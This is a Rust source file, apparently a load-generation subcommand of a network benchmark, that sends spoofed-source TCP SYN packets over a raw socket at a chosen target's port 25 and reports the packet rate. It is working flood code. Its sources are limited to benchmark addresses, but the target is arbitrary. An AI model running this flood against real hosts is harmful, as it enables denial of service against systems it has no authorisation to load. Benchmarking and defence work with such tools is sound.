//! The flood: SYNs with made-up source addresses, as fast as one CPU sends them, until standard input ends.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::mpsc::TryRecvError;

use anyhow::{Context, Result};
use ingress_user::worker::clock::Now;
use socket2::{Domain, Protocol, Socket, Type};

#[derive(Debug, clap::Args)]
pub(crate) struct Options {
    /// Who is flooded, on port 25
    target: Ipv4Addr,
    /// So many addresses again and again; 0: a new one for each packet
    #[arg(long)]
    sources: u32,
}

const IPPROTO_RAW: i32 = 255;
const PORT: u16 = 25;

/// Packets between two looks at the time.
const BATCH: u32 = 1_000;

/// Prints packets a second at the end.
#[expect(clippy::print_stdout, reason = "the figure is the output")]
pub(crate) fn run(options: &Options) -> Result<()> {
    let ended = super::ends_with_stdin();
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
        .context("raw sockets need root")?;
    let target = SocketAddr::V4(SocketAddrV4::new(options.target, 0)).into();
    let began = Now::read().monotonic;
    let mut sent: u32 = 0;
    while !matches!(ended.try_recv(), Err(TryRecvError::Disconnected)) {
        for _ in 0..BATCH {
            let number = if options.sources == 0 { sent } else { sent % options.sources };
            // Benchmark addresses (RFC 2544): 198.18.0.0/15, and the ports make the rest.
            let source = Ipv4Addr::from(0xc612_0000 + (number & 0x1_ffff));
            let port = (sent.wrapping_mul(2_654_435_761) >> 16) as u16 | 1;
            // A full queue drops it; so does the network.
            let _ = socket.send_to(&syn(source, port, options.target), &target);
            sent = sent.wrapping_add(1);
        }
    }
    let seconds = (Now::read().monotonic - began).as_secs_f64();
    println!("{:.0}", f64::from(sent) / seconds);
    Ok(())
}

/// IPv4 and TCP headers (RFC 791 and RFC 9293, section 3.1 of each). The kernel fills in the checksum of the former.
fn syn(source: Ipv4Addr, port: u16, target: Ipv4Addr) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[..12].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.octets());
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&PORT.to_be_bytes());
    packet[24..28].copy_from_slice(&u32::from(source).to_be_bytes());
    packet[32..36].copy_from_slice(&[5 << 4, 0x02, 0xff, 0xff]);
    let checksum = checksum(&packet);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// Of the segment with its pseudo-header.
fn checksum(packet: &[u8; 40]) -> u16 {
    let words = packet[12..].chunks_exact(2).map(|word| match word {
        [high, low] => u32::from(u16::from_be_bytes([*high, *low])),
        _ => 0,
    });
    // Protocol 6 and the length of 20 complete the pseudo-header.
    let sum = words.sum::<u32>() + 6 + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    !((folded & 0xffff) + (folded >> 16)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_with_its_checksum_sums_up_to_all_ones() {
        let packet = syn([198, 18, 0, 1].into(), 40_001, [10, 77, 0, 2].into());
        assert_eq!(checksum(&packet), 0);
    }
}
